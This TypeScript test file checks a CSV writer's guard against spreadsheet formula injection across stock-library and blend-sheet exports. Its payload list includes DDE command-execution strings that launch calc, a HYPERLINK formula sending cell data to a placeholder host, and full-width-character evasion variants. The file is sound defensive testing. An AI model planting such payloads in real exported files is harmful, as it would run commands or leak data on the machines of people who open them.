import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { isFormulaLike, neutraliseCsvText, restoreCsvText, writeCsv, writeCsvRecords } from '../../src/state/csv';
import { libraryToCsv, previewCsv } from '../../src/state/library-io';
import { toCsv } from '../../src/features/blend-sheet/csv';
import { blendSheetCsvRows, buildBlendSheet } from '../../src/core/sheet/blend-sheet';
import { demoComponents } from '../../src/state/demo';
import { newRecipeLifecycle, type Recipe } from '../../src/core/formulation/model';

// The usual CSV-injection payloads (OWASP "CSV Injection" page and common practice, no further source).
const PAYLOADS = [
  '-2+3',
  '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+cmd|\' /C calc\'!A0',
  '=1+2',
  '-1+1',
  '+1',
  '@A1',
  '\t=1+2',
  '\r=1+2',
  '  =1+2',
  '\uff1d1+2', // full-width equals sign
  '\uff0bcmd|x', // full-width plus
  '\uff0d2+3', // full-width hyphen-minus
  '\uff20SUM(A1)', // full-width commercial at
  '\ufe66HYPERLINK("x")', // small equals sign
];

/** The cells of the first data row of a CSV text. */
function cells(csv: string): string[] {
  return Papa.parse<string[]>(csv, { skipEmptyLines: true }).data[1]!;
}

describe('one CSV writer with a formula-injection guard', () => {
  it('neutralises every payload a spreadsheet would evaluate, and restores it on reading back', () => {
    for (const p of PAYLOADS) {
      expect(isFormulaLike(p), p).toBe(true);
      const safe = neutraliseCsvText(p);
      expect(safe.startsWith("'"), p).toBe(true);
      expect(restoreCsvText(safe)).toBe(p);
      expect(cells(writeCsv(['text'], [[p]]))[0]).toBe(safe);
    }
  });

  it('leaves ordinary text alone, and writes numbers as numbers (a negative number stays a number)', () => {
    for (const t of ['BW-280', 'Group II heavy', '2-ethylhexyl', "It's fine", '']) expect(neutraliseCsvText(t)).toBe(t);
    expect(restoreCsvText("'plain")).toBe("'plain");
    const csv = writeCsv(['n', 'fixed', 'text', 'empty'], [[-5, { value: -0.5, decimals: 2 }, '-5', null]]);
    expect(csv).toBe("n,fixed,text,empty\r\n-5,-0.50,'-5,");
    expect(writeCsv(['x'], [[Number.NaN]])).toBe('x\r\n');
  });

  it('guards the stocks CSV, including a name starting with "-" and a digit', () => {
    const base = demoComponents()[0]!;
    for (const p of PAYLOADS) {
      const evil = { ...base, code: 'EVIL-1', name: p, notes: p, source: p };
      const csv = libraryToCsv([evil]);
      const [head, row] = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data as [string[], string[]];
      for (const col of ['name', 'notes', 'source']) {
        const c = row[head.indexOf(col)]!;
        expect(isFormulaLike(c), `${JSON.stringify(p)} → ${JSON.stringify(c)}`).toBe(false);
      }
      // A negative pour point is a number and stays one.
      expect(row[head.indexOf('pour_point_c')]).toBe(String(base.pourPoint));
      // Read back by the importer, the text comes back as it was typed (the importer trims blanks).
      const back = previewCsv(csv, [evil]).rows[0]!;
      if (back.component) expect(back.component.name).toBe(p.trim());
    }
  });

  it('guards the blend-sheet CSV: codes and names of stocks, with the numbers still numbers', () => {
    const lib = demoComponents().slice(0, 2).map((c, i) => ({ ...c, code: PAYLOADS[i]!, name: PAYLOADS[i + 2]! }));
    const recipe: Recipe = {
      id: 'r',
      name: 'r',
      grade: 320,
      revision: 1,
      lines: [
        { componentId: lib[0]!.id, massFraction: 0.5 },
        { componentId: lib[1]!.id, massFraction: 0.5 },
      ],
      isReference: false,
      notes: '',
      updatedAt: '2025-01-01T00:00:00.000Z',
      ...newRecipeLifecycle(),
    };
    const sheet = buildBlendSheet(lib, recipe, { kg: 1000 });
    const csv = toCsv(blendSheetCsvRows(sheet, { includePrices: true }));
    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    for (const row of rows) for (const c of row) expect(isFormulaLike(c), c).toBe(false);
    // 0.5 × 1000 kg = 500.0 kg each, by hand (common practice (no source): displayed to 0.1 kg).
    expect(rows[1]![6]).toBe('500.0');
    expect(writeCsvRecords([{ a: 1 }])).toBe('a\r\n1');
  });
});
